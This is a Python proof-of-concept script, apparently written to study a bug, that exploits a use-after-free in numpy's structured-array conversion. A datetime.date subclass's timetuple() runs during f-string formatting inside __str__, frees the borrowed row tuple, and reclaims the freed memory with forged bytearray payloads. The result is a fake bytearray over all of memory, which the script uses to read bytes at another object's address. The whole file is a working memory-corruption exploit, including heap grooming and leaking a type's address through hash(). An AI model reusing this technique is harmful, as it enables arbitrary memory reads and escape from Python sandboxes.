# source: CPython 3.11 Modules/_datetimemodule.c date_strftime/datetime_strftime (PyObject_CallMethodNoArgs(self, "timetuple")) and date_format (calls strftime); numpy 1.24 VOID_setitem reads row tuple items borrowed
# family: library code calls a method of the script by name from inside a conversion: a datetime.date/datetime subclass's own timetuple() runs from f"{self.d:%Y}" in __str__ (date.__format__ -> strftime -> timetuple by name)
# goal: __str__ runs script code that frees the row tuple and its object field, reclaimed by a forged bytearray over all memory; reads 16 bytes at another object's address (out-of-bounds memory read)
import numpy as np
import pandas as pd
import datetime

keep = []
hold = []


def addr_of_type(t):
    y = hash(t) % (1 << 64)
    return ((y << 4) | (y >> 60)) % (1 << 64)


BA = addr_of_type(bytearray)


def q(v):
    return (v % (1 << 64)).to_bytes(8, "little")


def boom(*a, **k):
    junk = [(n, n + 1) for n in range(300)]
    hold[0][0] = 0
    payload = q(1 << 40) + q(BA) + q(1 << 60) + q((1 << 60) + 1) + q(0) + q(0) + q(0)
    payload = payload + bytes(479 - len(payload))
    for n in range(8):
        keep.append(bytearray(payload))
    junk.clear()
    return 1.0




class D(datetime.date):
    def timetuple(self):
        if len(hold) > 0 and len(keep) == 0:
            boom()
        return super().timetuple()


class A:
    def __init__(self, d):
        self.d = d

    def __str__(self):
        return f"{self.d:%Y}"


lst = [(A(D(2020, 1, 2)), bytes(447))]
hold.append(lst)
arr = np.array(lst, dtype=[("x", "U8"), ("y", "O")])
fake = arr["y"][0]
print("fake object:", type(fake), len(fake))
o = object()
r = repr(o)
a = int(r.split("at ")[1][:-1], 16)
print("read at", hex(a), ":", bytes(fake[a:a + 16]).hex(), "type(object) at", hex(addr_of_type(object)))
